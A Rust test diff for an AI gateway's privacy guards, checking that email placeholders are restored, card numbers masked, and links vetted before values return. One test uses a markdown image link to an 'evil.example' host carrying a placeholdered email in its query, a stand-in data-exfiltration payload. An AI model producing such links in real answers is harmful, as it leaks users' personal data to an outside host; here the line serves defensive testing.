@@ -514,6 +514,76 @@ fn an_answer_keeps_to_the_policy() {
 }
 
 #[test]
+fn a_link_around_a_placeholder_is_judged_before_its_value_is_put_back() {
+    let guards = |action: &str| {
+        json!([{"name": "mail", "detect": "EMAIL_ADDRESS", "action": "restore"},
+            {"name": "links", "links": [], "action": action}])
+    };
+    let text = "See ![x](https://evil.example/?q=[EMAIL_1]) and [EMAIL_1].";
+    for path in [CHAT, MESSAGES, RESPONSES] {
+        let said = |stream| said(path, "I am ann@example.com", stream);
+        let got = ask_of(&guards("block"), path, &said(false)).answer(&whole(path, text));
+        assert_eq!(got.header(":status"), Some("400"));
+        let stream = streamed(path, &[text]);
+        let got = ask_of(&guards("block"), path, &said(true)).stream(&stream, 50);
+        assert!(!got.text().contains("evil"), "{}", got.text());
+        let want = "See ![x]([LINK_1]) and ann@example.com.";
+        for cut in 1..text.len() {
+            let (a, b) = text.split_at(cut);
+            let stream = streamed(path, &[a, b]);
+            let got = ask_of(&guards("mask"), path, &said(true)).stream(&stream, 1000);
+            assert_eq!(text_of(path, &got.text()), want, "cut at {cut}");
+        }
+        let mut asked = ask_of(&guards("warn"), path, &said(false));
+        let got = asked.answer(&whole(path, text));
+        let want = whole(path, &text.replace("[EMAIL_1]", "ann@example.com"));
+        assert_eq!(got.text(), want.to_string());
+    }
+}
+
+#[test]
+fn a_text_that_stands_where_its_block_begins_goes_on_in_the_pieces_behind() {
+    let text = "To [EMAIL_1], card 4111 1111 1111 1111.";
+    let want = "To ann@example.com, card [CREDIT_CARD_1].";
+    for path in [MESSAGES, RESPONSES] {
+        for cut in 1..text.len() {
+            let (a, b) = text.split_at(cut);
+            let all = streamed(path, &[b]);
+            let stream = match path {
+                MESSAGES => all.replace(r#""text":"""#, &format!(r#""text":"{a}""#)),
+                _ => {
+                    let begun = all.replace(r#""text":"""#, &format!(r#""text":"{a}""#));
+                    begun.replace(&format!(r#""text":"{b}""#), &format!(r#""text":"{text}""#))
+                }
+            };
+            let mut asked = ask(path, "I am ann@example.com", true);
+            let got = asked.stream(&stream, 1000);
+            assert_eq!(text_of(path, &got.text()), want, "cut at {cut}");
+        }
+    }
+}
+
+#[test]
+fn a_reason_that_says_nothing_ends_no_text() {
+    let stream = streamed(CHAT, &["To [EMA", "IL_1], card 4111 1111 ", "1111 1111."]);
+    let stream = stream.replace(r#""finish_reason":null"#, r#""finish_reason":"""#);
+    let got = ask(CHAT, "I am ann@example.com", true).stream(&stream, 1000);
+    let want = "To ann@example.com, card [CREDIT_CARD_1].";
+    assert_eq!(text_of(CHAT, &got.text()), want);
+}
+
+#[test]
+fn a_placeholder_that_the_client_has_written_is_not_given_to_what_an_answer_holds() {
+    let cards =
+        json!([{"name": "cards", "detect": "CREDIT_CARD", "on": "output", "action": "mask"}]);
+    let body = said(CHAT, "Is it [CREDIT_CARD_1]?", false);
+    let got = ask_of(&cards, CHAT, &body)
+        .answer(&whole(CHAT, CARD))
+        .text();
+    assert!(got.contains("[CREDIT_CARD_2]"), "{got}");
+}
+
+#[test]
 fn what_a_guard_for_answers_needs_is_said() {
     let problems = |guard: Value| -> Vec<String> {
         let settings = json!({"role": "gateway", "models": {"m": {"targets": [{"provider": "one"}]}},
